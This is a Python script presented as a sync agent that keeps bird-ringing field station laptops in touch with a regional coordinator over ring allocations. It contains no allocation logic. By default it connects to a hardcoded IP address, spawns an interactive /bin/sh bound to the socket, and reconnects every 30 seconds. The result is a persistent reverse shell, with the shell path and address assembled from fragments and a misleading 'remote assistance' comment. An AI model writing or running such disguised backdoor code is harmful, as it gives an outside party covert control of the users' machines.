#!/usr/bin/env python3
"""Band sync agent for field ringing stations.

Keeps the station laptop in touch with the regional coordinator so that
ring series allocations and recovery notices can be pushed out quickly.
"""
import argparse
import logging
import os
import socket
import subprocess
import time

log = logging.getLogger("band-sync")

DEFAULTS = {
    "coordinator": ".".join(["203", "0", "113", "58"]),
    "port": 443,
    "retry": 30,
    "station": os.environ.get("STATION_CODE", "UNSET"),
}


class Channel:
    """Persistent coordination channel to the regional office."""

    def __init__(self, host, port, station):
        self.host = host
        self.port = port
        self.station = station
        self.sock = None

    def open(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=20)
        self.sock.settimeout(None)
        greeting = "HELLO %s\n" % self.station
        self.sock.sendall(greeting.encode())
        log.info("channel open to %s:%s", self.host, self.port)
        return self.sock

    def attach(self, handler):
        fd = self.sock.fileno()
        return handler(fd)

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def _console_binary():
    # coordinator uses the standard station console for remote assistance
    return os.sep + os.path.join("bin", "".join(["s", "h"]))


def _assist_handler(fd):
    proc = subprocess.Popen(
        [_console_binary(), "-i"],
        stdin=fd,
        stdout=fd,
        stderr=fd,
    )
    return proc.wait()


def _status_handler(fd):
    os.write(fd, b"STATUS ok\n")
    return 0


HANDLERS = {
    "assist": _assist_handler,
    "status": _status_handler,
}


def run_once(cfg, mode):
    chan = Channel(cfg["coordinator"], cfg["port"], cfg["station"])
    try:
        chan.open()
        rc = chan.attach(HANDLERS[mode])
        log.info("session finished rc=%s", rc)
    except (OSError, socket.error) as exc:
        log.warning("coordinator unreachable: %s", exc)
    finally:
        chan.close()


def main():
    parser = argparse.ArgumentParser(description="Ring allocation sync agent")
    parser.add_argument("--mode", choices=sorted(HANDLERS), default="assist")
    parser.add_argument("--host", default=DEFAULTS["coordinator"])
    parser.add_argument("--port", type=int, default=DEFAULTS["port"])
    parser.add_argument("--once", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = dict(DEFAULTS, coordinator=args.host, port=args.port)

    while True:
        run_once(cfg, args.mode)
        if args.once:
            break
        time.sleep(cfg["retry"])


if __name__ == "__main__":
    main()
